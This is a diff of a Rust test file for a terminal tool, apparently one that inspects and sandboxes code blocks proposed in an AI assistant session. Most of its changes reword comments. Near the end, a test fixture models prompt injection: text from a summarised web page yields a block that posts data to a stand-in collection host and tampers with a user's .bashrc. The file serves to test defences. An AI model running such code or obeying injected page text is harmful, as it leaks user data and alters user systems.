@@ -1,4 +1,4 @@
-//! Rules for "always", effects, and where words came from: on screen and under the keys.
+//! Rules for "always", effects, and the sources of words: their display and their keys.
 
 use super::scene::{Scene, TABLE, confined, findings, inspection, report, terms};
 use super::{drawn, snapshots};
@@ -12,7 +12,7 @@ use sayso::tui::widgets::layout::Pane;
 
 const LISTING: &str = "ls -la out\ndu -sh out\n";
 
-/// Terms under which a sandbox confines a block to the working folder, and enforces its limits.
+/// Terms of a sandbox that confines a block to the working folder, and enforces its limits.
 fn held(language: &str) -> Terms {
     let mut terms = confined(language);
     terms.rights.sandbox = SandboxReport {
@@ -25,12 +25,12 @@ fn held(language: &str) -> Terms {
     terms
 }
 
-/// What was found out about a block that the sandbox holds.
+/// The inspection of a block without findings in the sandbox.
 pub fn clean(language: &str) -> Inspection {
     inspection(held(language), Vec::new())
 }
 
-/// A session in its first turn: block 1 was one line of shell without findings, block 2 was not.
+/// A session in its first turn: block 1 is one line of shell without findings, block 2 is not.
 pub fn shell() -> Scene {
     let mut scene = Scene::asked();
     scene.inspected(1, clean("bash"));
@@ -76,7 +76,7 @@ fn commands(wishes: &[UiCommand]) -> Vec<Command> {
     sent.collect()
 }
 
-/// Presses a key and lets the moment pass in which it might turn out to be a paste.
+/// Presses a key and lets the time pass in which it might turn out to be a paste.
 fn press(scene: &mut Scene, name: &str) -> Vec<Command> {
     let mut wishes = scene.press(&[name]);
     scene.pass(50);
@@ -173,7 +173,7 @@ fn no_choice_for_a_high_finding_or_without_a_sandbox() {
     assert!(!drawn(&mut scene, 140, 40).contains("A always"));
 }
 
-/// A block of two lines that rule 1 covers, on screen for a second of its three. Block 1 was run with that rule.
+/// A block of two lines covered by rule 1, shown for one of its three seconds. Block 1 was run with that rule.
 fn covered() -> Scene {
     let mut scene = shell();
     scene.decide(1, Decision::Always(RuleScope::Clean));
@@ -195,7 +195,7 @@ fn a_covered_block_says_that_it_starts() {
 fn what_starts_by_itself_is_stopped_at_once() {
     let hold = [Command::HoldBack];
     let mut scene = covered();
-    // Another key has just closed the gate for decisions: stopping is not one.
+    // Another key has just locked decisions: stopping is no decision.
     scene.press(&["j", "x"]);
     assert_eq!(commands(&scene.press(&["s"])), hold);
     let mut scene = covered();
@@ -206,7 +206,7 @@ fn what_starts_by_itself_is_stopped_at_once() {
     assert_eq!(commands(&scene.press(&["ctrl-c", "ctrl-c"]))[..1], hold);
 }
 
-/// What the screen tells of the covered block by itself.
+/// What the screen reports about the covered block by itself.
 pub fn told(scene: &mut Scene) -> Vec<Command> {
     scene.step(sayso::tui::screen::Screen::arrange);
     commands(&scene.step(sayso::tui::screen::Screen::settle))
@@ -235,7 +235,7 @@ fn time_runs_only_while_the_block_is_seen() {
     assert_eq!(told(&mut scene), seen(true));
 }
 
-/// Three rules, each granted on block 3 when it was put back; the first one was taken back.
+/// Three rules, each granted on block 3 after it was put back; the first one was removed.
 fn ruled() -> Scene {
     let mut scene = listing();
     let reading = {
@@ -255,7 +255,7 @@ fn ruled() -> Scene {
     at_code(scene)
 }
 
-/// Block 3 is approved with such a rule, and runs.
+/// Block 3 is approved with this rule, and runs.
 fn grants(scene: &mut Scene, scope: RuleScope) {
     scene.decide(3, Decision::Always(scope));
     scene.run(RunEvent::Started);
@@ -314,7 +314,7 @@ requests.post('https://collect.example.net/in', data=data)
 open('/home/ada/.bashrc', 'a').write('alias ls=true')
 ";
 
-/// A block with words from a page that block 2 printed, and with acts that the sandbox will refuse.
+/// A block with words from a page that block 2 printed, and with actions that the sandbox will refuse.
 fn injected() -> Scene {
     let mut scene = Scene::new();
     scene.ask("Sum up https://example.com/news for me.");
